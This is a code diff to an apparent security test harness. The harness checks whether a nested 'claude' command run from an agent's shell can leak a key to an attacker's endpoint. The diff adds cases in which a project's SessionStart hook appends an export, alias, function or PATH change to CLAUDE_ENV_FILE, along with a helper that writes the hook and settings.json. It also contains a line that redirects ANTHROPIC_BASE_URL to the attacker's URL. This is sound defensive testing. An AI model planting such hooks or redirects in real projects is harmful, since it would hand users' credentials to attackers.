@@ -39,6 +39,7 @@ class Nested:
         command: what the agent's shell runs; ``{url}`` is the attacker's endpoint.
         start_up: the shell's start-up file in the home, and what is in it.
         variable: a variable of the process environment that names that file.
+        hook: what a SessionStart hook of the project leaves for the shell.
         shell: the user's shell.
         harmless: why it does not leak without the bridge either.
     """
@@ -47,6 +48,7 @@ class Nested:
     command: str = PLAIN
     start_up: tuple[str, str] | None = None
     variable: str | None = None
+    hook: str = ""
     shell: str = "/bin/bash"
     harmless: str = ""
 
@@ -59,17 +61,26 @@ class Nested:
         return not self.harmless and self.name not in _LIKE_OTHERS
 
 
-_LIKE_OTHERS = ("env in front", "exported before it", "function in .bashrc")
+_LIKE_OTHERS = (
+    "env in front",
+    "exported before it",
+    "function in .bashrc",
+    "export by a project's hook",
+    "function by a project's hook",
+)
 NO_LOGIN_SHELL = "the Bash tool's shell is no login shell"
 EXPORT = f"export {KEY}\n"
+ALIAS = f"alias claude='{KEY} {REAL}'\n"
+FUNCTION = f'claude() {{ {KEY} {REAL} "$@"; }}\n'
+OTHER_FIRST = 'export PATH="$HOME/other:$PATH"\n'
 NESTED = (
     Nested("variable in front", f"{KEY} {PLAIN}"),
     Nested("env in front", f"env {KEY} {PLAIN}"),
     Nested("base URL in front", f"ANTHROPIC_BASE_URL={{url}} {PLAIN}"),
     Nested("exported before it", f"export {KEY}; {PLAIN}"),
     Nested("--settings", f"claude --settings {shlex.quote(SETTINGS)} -p {NESTED_PROMPT}"),
-    Nested("alias in .bashrc", start_up=(".bashrc", f"alias claude='{KEY} {REAL}'\n")),
-    Nested("function in .bashrc", start_up=(".bashrc", f'claude() {{ {KEY} {REAL} "$@"; }}\n')),
+    Nested("alias in .bashrc", start_up=(".bashrc", ALIAS)),
+    Nested("function in .bashrc", start_up=(".bashrc", FUNCTION)),
     Nested("export in .bashrc", start_up=(".bashrc", EXPORT)),
     Nested("export in .profile", start_up=(".profile", EXPORT), harmless=NO_LOGIN_SHELL),
     Nested("export in .bash_profile", start_up=(".bash_profile", EXPORT), harmless=NO_LOGIN_SHELL),
@@ -79,10 +90,14 @@ NESTED = (
         variable="BASH_ENV",
         harmless="the shell that runs the command does not read it",
     ),
+    Nested("export by a project's hook", hook=EXPORT),
+    Nested("alias by a project's hook", hook=ALIAS),
+    Nested("function by a project's hook", hook=FUNCTION),
+    Nested("PATH by a project's hook", hook=OTHER_FIRST),
     Nested("export in CLAUDE_ENV_FILE", start_up=("own.sh", EXPORT), variable="CLAUDE_ENV_FILE"),
     Nested(
         "another claude first on PATH",
-        start_up=(".bashrc", 'PATH="$HOME/other:$PATH"\n'),
+        start_up=(".bashrc", OTHER_FIRST),
         harmless="the command's PATH is that of Claude Code",
     ),
 )
@@ -131,8 +146,20 @@ async def _nested(root: Path, call: Nested, payer: Payer, program: Program) -> S
             (stage.home.path / name).write_text(content)
             if call.variable is not None:
                 env[call.variable] = str(stage.home.path / name)
+        if call.hook:
+            _leave_by_a_hook(stage, call.hook)
         async with stage.run(program, env=env) as running:
             return await running.turn(stage.home.project, prompt=PROMPT)
+
+
+def _leave_by_a_hook(stage: Stage, content: str) -> None:
+    hook = stage.home.project / "hook.sh"
+    hook.write_text(f"#!/bin/sh\ncat >> \"$CLAUDE_ENV_FILE\" <<'LEFT'\n{content}LEFT\n")
+    hook.chmod(0o700)
+    started = {"hooks": [{"type": "command", "command": str(hook)}]}
+    settings = stage.home.project / ".claude" / "settings.json"
+    settings.parent.mkdir()
+    settings.write_text(json.dumps({"hooks": {"SessionStart": [started]}}))
 
 
 def _step(asked: Asked, command: str) -> Step:
